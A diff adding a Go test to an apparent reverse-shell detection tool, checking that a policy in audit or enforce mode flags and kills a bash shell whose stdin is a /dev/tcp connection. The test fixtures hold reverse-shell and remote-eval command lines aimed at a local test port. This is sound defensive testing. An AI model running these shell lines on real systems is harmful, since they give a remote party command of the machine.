@@ -68,3 +68,34 @@ func TestShellsThatAreNotRelayed(t *testing.T) {
 		})
 	}
 }
+
+// A shell that connects by itself and then reads its commands from there is in
+// somebody's hands, whatever it read from when it began.
+func TestShellsThatConnect(t *testing.T) {
+	for _, tt := range []struct {
+		name, from string
+		wanted     bool
+	}{
+		{"commands from the connection", "exec 0<>/dev/tcp/127.0.0.1/7006", true},
+		{"a connection beside", "exec 3<>/dev/tcp/127.0.0.1/7006; read -t 9 -u 3 line; eval \"$line\"", false},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			c := newCell(t)
+			writeFile(t, filepath.Join(c.dir, "commands"), tt.from+"\n")
+			for _, mode := range []string{"audit", "enforce"} {
+				writePolicy(t, filepath.Join(c.dir, "p.yaml"), "    reverseShell: {mode: "+mode+", relayed: true}\n")
+				r := c.run(t, []string{"--policy", "/tmp/p.yaml"}, "/tmp/attack", "child", "/tmp/attack", "commander", "/tmp/commands", "127.0.0.1:7006", "/usr/bin/bash")
+				events := r.of("reverseShell")
+				if r.has("shell-ran") == (tt.wanted && mode == "enforce") || (len(events) > 0) != tt.wanted {
+					t.Errorf("%s: %s", mode, r.brief())
+				}
+				for _, e := range events {
+					if e.Attributes["via"] != "connection of its own" || e.Attributes["peer"] != "127.0.0.1:7006" || e.Killed != (mode == "enforce") {
+						t.Errorf("%s: %v", mode, e)
+					}
+				}
+			}
+		})
+	}
+}
